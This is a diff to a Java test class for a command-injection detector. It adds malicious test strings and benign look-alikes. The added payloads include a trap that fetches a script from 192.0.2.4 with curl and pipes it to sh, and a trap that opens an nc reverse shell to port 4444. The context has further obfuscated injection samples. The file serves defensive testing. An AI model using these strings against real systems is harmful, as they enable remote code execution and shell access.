@@ -80,6 +80,7 @@ class CommandInjectionTest {
         "x;./backdoor",
         "x | ./run.sh -v",
         // the dot builtin runs a file in the current shell
+        "x;trap 'curl -s http://192.0.2.4/a|sh' exit", "x && trap \"nc 192.0.2.4 4444 -e /bin/sh\" sigterm", "x|trap 'id' 0",
         "x;. /tmp/.cache/x.sh", "x|. ~/.profile", "x && . ./env.sh",
         // no command name at all: the shell itself, or variables assigned in the same value
         "x;$0", "x|${0}", "x && $shell -c true", "a=wh;b=oami;$a$b", "x;p=$'ps\\x20aux'&&$p", "c=ca;d=t;${c}${d} /etc/hosts",
@@ -99,7 +100,7 @@ class CommandInjectionTest {
     @ValueSource(strings = {
         "cats and dogs",
         "tom & jerry",
-        "ends here; . /about", "a & . /x", "see | . / and more", "x; . ", "x; .. /etc",
+        "ends here; . /about", "it's a trap 'indeed' said he", "x; trap 'x' later", "x; trap '' exit", "a & . /x", "see | . / and more", "x; . ", "x; .. /etc",
         "up ^", "x^", "2^", "a & b^",
         "rock & roll",
         "id",
